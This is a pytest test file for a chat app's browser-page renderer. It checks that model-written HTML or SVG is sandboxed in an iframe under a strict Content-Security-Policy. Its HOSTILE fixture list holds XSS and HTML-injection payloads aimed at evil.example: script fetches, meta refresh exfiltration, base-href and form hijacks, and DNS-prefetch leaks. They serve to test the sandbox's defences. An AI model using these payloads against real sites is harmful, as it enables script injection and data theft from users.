"""Whatever an answer says, the page that the browser opens has our policy first and loads nothing."""

import os
import re
import stat
from html.parser import HTMLParser
from pathlib import Path

import pytest

from qwendesk.chat.browser_pages import POLICY, BrowserPages, is_page, page_of
from qwendesk.core.errors import BadRequest

WANTED = "default-src 'none'; img-src data:; style-src 'unsafe-inline'"
HOSTILE = (
    "<h1>Hello</h1>",
    "",
    '<meta http-equiv="Content-Security-Policy" content="default-src *"><img src="https://evil.example/x.png">',
    '<meta http-equiv="refresh" content="0; url=https://evil.example/?notes">',
    '<base href="https://evil.example/"><a href="x">more</a>',
    '<form action="https://evil.example" method="post"><input name="a"><button autofocus>Go</button></form>',
    '"></iframe><script>fetch("https://evil.example")</script>',
    "'></iframe><img src=https://evil.example>",
    "&quot;&gt;&lt;/iframe&gt;<script>alert(1)</script>",
    "</body></html><script src=https://evil.example/x.js></script>",
    "\ufeff\ufeff<!doctype html><html><head><base href=//evil.example><title>x</title></head></html>",
    "\ufffe<!DOCTYPE html PUBLIC '-//W3C//DTD HTML 3.2//EN'><html manifest=//evil.example>",
    "<!--><script>1</script>-->", "<!-- unclosed <script>", "--></head><body>", "<![CDATA[<script>]]>",
    "<plaintext><script>", "<textarea></textarea", "<title><script>", "<noscript><p title='</noscript><img src=x>'>",
    "<template><meta http-equiv=refresh></template>", "<frameset><frame src=//evil.example></frameset>",
    "<svg><script>1</script><foreignObject><iframe src=//evil.example></foreignObject></svg>",
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x "<script>">]><svg>&x;</svg>',
    "<link rel=dns-prefetch href=//secret.evil.example>", "<LINK\nrel=preconnect href=//evil.example>", "<link/x",
    "<link",
    "\0<\0script>\0", "\ud800<b>", "\r\n\r\n<style>@import url(//evil.example)</style>", "\x1b$B<script>",
    "+ADw-script+AD4-",
    "<a href=https://evil.example target=_top>x</a>", "<object data=//evil.example></object><embed src=//evil.example>",
)  # fmt: skip


class Tags(HTMLParser):
    """The tags of a page with their attributes, in order."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def written(text: str, language: str = "html") -> tuple[bytes, Tags]:
    content = page_of(text, language, "From a chat").encode()
    return content, Tags(content.decode("utf-8-sig"))


def inner_of(page: Tags) -> str:
    [frame] = [attributes for tag, attributes in page.tags if tag == "iframe"]
    assert frame["sandbox"] == "", "nothing is allowed: no scripts, no forms, no refresh, nothing that leaves"
    assert set(frame) == {"sandbox", "srcdoc"}
    return frame["srcdoc"] or ""


@pytest.mark.parametrize("language", ["html", "svg"])
@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_page_around_the_answer_is_always_the_same(text: str, language: str) -> None:
    content, page = written(text, language)
    assert content.startswith(b"\xef\xbb\xbf<!doctype html><html><head><meta "), "nothing can change the encoding"
    _, plain = written("Hello", language)

    def without_answer(tags: Tags) -> list[tuple[str, dict[str, str | None]]]:
        return [
            (tag, {**attributes, "srcdoc": ""}) if tag == "iframe" else (tag, attributes)
            for tag, attributes in tags.tags
        ]

    assert without_answer(page) == without_answer(plain)
    assert [tag for tag, _ in page.tags][:3] == ["html", "head", "meta"]
    assert page.tags[2][1] == {"http-equiv": "Content-Security-Policy", "content": WANTED}


@pytest.mark.parametrize("language", ["html", "svg"])
@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_policy_comes_first_in_the_frame_too(text: str, language: str) -> None:
    _, page = written(text, language)
    inner = inner_of(page)
    start = '<!doctype html><html><head><meta http-equiv="Content-Security-Policy" content="'
    assert inner.startswith(f'{start}{WANTED}">')
    assert inner.count("base-uri 'none'; form-action 'none'") == 1
    assert not re.search(r"<link[\s/>]|<link$", inner, re.IGNORECASE), "looking up a name would tell something"


def test_policy_allows_nothing_but_inline_styles_and_pictures() -> None:
    assert POLICY == WANTED


def test_page_shows_what_the_model_wrote() -> None:
    head = "<head><style>b { color: red }</style></head>"
    text = f'<!doctype html>\n<html lang="de">{head}<body><b>Grüße & Küsse</b></body></html>'
    assert inner_of(written(text)[1]).endswith(text)


def test_svg_is_wrapped_in_a_page() -> None:
    head = '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x">'
    text = f'{head}\n<svg viewBox="0 0 1 1"/>\n'
    for language in ("svg", "xml", "html"):
        assert inner_of(written(text, language)[1]).endswith(
            '<title>From a chat</title><body><svg viewBox="0 0 1 1"/>\n'
        )


def test_only_code_that_is_a_page_is_offered() -> None:
    svg = '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"></svg>'
    assert all(is_page(language, "x") for language in ("html", "HTML", "htm", "svg", "xhtml"))
    assert is_page("xml", svg)
    assert not any(is_page(language, svg) for language in ("", "python", "markdown", "jsx"))
    assert not is_page("xml", "<note>x</note>")


@pytest.mark.parametrize(
    "begun", ["<!DOCTYPE " + "a" * 1_000_000, "<!DOCTYPE [" + "]" * 1_000_000, "<?xml " + "?" * 1_000_000]
)
def test_text_without_an_end_is_judged_at_once(begun: str) -> None:
    """It would take hours if each part of it was tried in each way, while the window stands still."""
    assert not is_page("xml", begun)


async def test_files_have_names_that_nobody_guesses_and_are_deleted(tmp_path: Path) -> None:
    pages = BrowserPages(tmp_path / "pages")
    paths = [await pages.write("<p>x</p>", "html") for _ in range(3)]
    assert len({path.name for path in paths}) == 3
    assert all(re.fullmatch(r"[0-9a-f]{32}\.html", path.name) for path in paths)
    assert paths[0].read_bytes() == page_of("<p>x</p>", "html", "From a chat in QwenDesk").encode()
    await BrowserPages(tmp_path / "pages").delete_all()
    assert not os.listdir(tmp_path / "pages")  # noqa: PTH208 - short for a look from a coroutine


async def test_only_the_user_can_read_the_files() -> None:
    path = await BrowserPages().write("<p>x</p>", "html")
    assert os.name == "nt" or not stat.S_IMODE(path.stat().st_mode) & 0o077


async def test_full_disk_is_said(tmp_path: Path) -> None:
    (tmp_path / "pages").write_text("")
    with pytest.raises(BadRequest, match="couldn't be written"):
        await BrowserPages(tmp_path / "pages").write("x", "html")
